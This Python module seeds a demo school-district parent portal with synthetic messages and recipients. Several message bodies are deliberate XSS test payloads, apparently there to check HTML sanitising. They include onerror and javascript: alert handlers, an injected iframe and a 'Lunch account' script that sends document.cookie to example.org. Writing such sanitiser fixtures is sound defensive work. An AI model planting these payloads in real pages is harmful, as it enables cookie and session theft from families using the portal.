"""The messages of the made district: to everybody, to a school, a course, about a student, and personal ones."""

import sqlite3
from collections import defaultdict
from dataclasses import dataclass
from datetime import date
from itertools import count
from random import Random
from typing import Any

from loaders.contract import MessageScope
from loaders.demo.calendar import DAY, SchoolYear, instant
from loaders.demo.courses import Courses
from loaders.demo.people import Guardian, Link, People, School
from loaders.demo.store import write

Recipients = list[tuple[int, int | None]]

_DISTRICT = (
    ("Welcome to the new school year", "<p>Dear families,</p><p>welcome back! Classes begin at <b>8:15</b>.</p>"),
    ("Snow days", "When schools close for weather, we write by 6 a.m. Please check your telephone number with us."),
    ("Family survey", '<p>Tell us what you think: <a href="https://example.org/survey">the survey</a>.</p>'
                      '<img src="x" onerror="alert(1)"><iframe src="https://example.org/ad"></iframe>'),
)  # fmt: skip
_SCHOOL = (
    ("Picture day", "<p>Picture day is next <em>Tuesday</em>. Order forms come home with students.</p>"),
    ("Book fair", "<ul><li>Monday: grades K-2</li><li>Tuesday: grades 3-5</li></ul><p>Helpers are welcome.</p>"),
    ("Parking lot", "Please do not stop in the bus lane.\n\nThank you!"),
)
_COURSE = (
    ("Unit test next week", "<p>We review on Thursday; the <strong>unit test</strong> is on Friday.</p>"),
    ("Field trip", '<p>Please sign the <a href="javascript:alert(1)" onclick="alert(2)">slip</a> by Friday.</p>'),
    ("Supplies", "<p>We could use pencils &amp; paper towels.</p>"),
)
_STUDENT = (
    ("A good week", "<p>I wanted you to know how well this week went.</p>"),
    ("Missing work", "<p>Some work is missing. It is accepted until <b>Friday</b>.</p>"),
)
_PERSONAL = (
    ("Conference", "<p>Shall we meet on Thursday at 16:30? Café in room 12: ☕</p>"),
    ("Your question", "Thank you for writing. The office will call you."),
)
_UNSAFE = ("Lunch account", '<p onclick="steal()">Please top up.</p><script>fetch("https://example.org/?" + '
           'document.cookie)</script><p style="position:fixed">The kitchen</p>')  # fmt: skip
_COURSE_SHARE, _STUDENT_SHARE, _PERSONAL_SHARE, _READ = 0.2, 0.4, 0.4, 0.6
_OFFICE = "Office of the Superintendent"


@dataclass(frozen=True)
class _Letter:
    scope: MessageScope
    content: tuple[str, str]
    sender: str
    role: str
    recipients: Recipients


def write_messages(
    connection: sqlite3.Connection,
    schools: list[School],
    people: People,
    courses: Courses,
    year: SchoolYear,
    rng: Random,
) -> None:
    """Write messages and their recipients: guardians who have, or had, the portal for the student concerned."""
    letters = _letters(connection, schools, people, courses, rng)
    past = year.until_today()
    sent = sorted((rng.choice(past), rng.randrange(11 * 60), n) for n in range(len(letters)))
    started = {(link.guardian.id, link.student.id): link.starts_on for link in people.links}
    messages, recipients = [], []
    for number, (day, minute, n) in zip(count(1), sent, strict=False):
        letter = letters[n]
        # Nothing of today is later than the morning, so that it has been sent when the demo is shown.
        at = instant(day, 7, minute // 11 if day == year.today else minute)
        messages.append((number, letter.scope.value, *letter.content, letter.sender, letter.role, at))
        for guardian_id, student_id in letter.recipients:
            if student_id is None or _had_begun(started[guardian_id, student_id], day):
                read = day < year.today and rng.random() < _READ
                read_at = instant(min(day + DAY, year.today), 7, rng.randrange(60)) if read else None
                recipients.append((number, guardian_id, student_id, read_at))
    write(connection, "message", "id scope subject body sender_name sender_role sent_at", messages)
    write(connection, "message_recipient", "message_id guardian_id student_id read_at", recipients)


def _had_begun(starts_on: date | None, day: date) -> bool:
    return starts_on is None or starts_on <= day


def _letters(
    connection: sqlite3.Connection, schools: list[School], people: People, courses: Courses, rng: Random
) -> list[_Letter]:
    links: dict[int, list[Link]] = defaultdict(list)
    for link in people.links:
        if link.portal_access:
            links[link.student.id].append(link)
    by_school: dict[int, Recipients] = defaultdict(list)
    for student in people.students:
        by_school[student.school.id] += _pairs(links[student.id])
    everybody: Recipients = [(guardian.id, None) for guardian in people.guardians]
    names = {row[0]: f"{row[1]} {row[2]}" for row in _staff(connection)}
    letters = [_Letter(MessageScope.DISTRICT, text, _OFFICE, "District", everybody) for text in _DISTRICT]
    for school in schools:
        recipients = by_school[school.id]
        letters += [_Letter(MessageScope.SCHOOL, text, school.name, "School office", recipients) for text in _SCHOOL]
    for section in courses.sections:
        if rng.random() < _COURSE_SHARE:
            found = [pair for seat in section.seats if seat.ends_on is None for pair in _pairs(links[seat.student.id])]
            teacher = names[section.teacher_id]
            letters.append(_Letter(MessageScope.COURSE, rng.choice(_COURSE), teacher, "Teacher", found))
    for student in people.students:
        if rng.random() < _STUDENT_SHARE:
            teacher = names[courses.seats[student.id][0].section.teacher_id]
            found = _pairs(links[student.id])
            letters.append(_Letter(MessageScope.STUDENT, rng.choice(_STUDENT), teacher, "Teacher", found))
    for guardian in people.guardians:
        if rng.random() < _PERSONAL_SHARE:
            letters.append(_personal(guardian, rng.choice(_PERSONAL)))
    parent = people.guardians[(people.cases["parent"].guardian_id or 1) - 1]
    letters.append(_personal(parent, _UNSAFE))
    return [letter for letter in letters if letter.recipients]


def _personal(guardian: Guardian, text: tuple[str, str]) -> _Letter:
    return _Letter(MessageScope.PERSONAL, text, "School Office", "Office", [(guardian.id, None)])


def _pairs(links: list[Link]) -> Recipients:
    return [(link.guardian.id, link.student.id) for link in links]


def _staff(connection: sqlite3.Connection) -> list[Any]:
    return connection.execute("select id, given_name, family_name from staff order by id").fetchall()
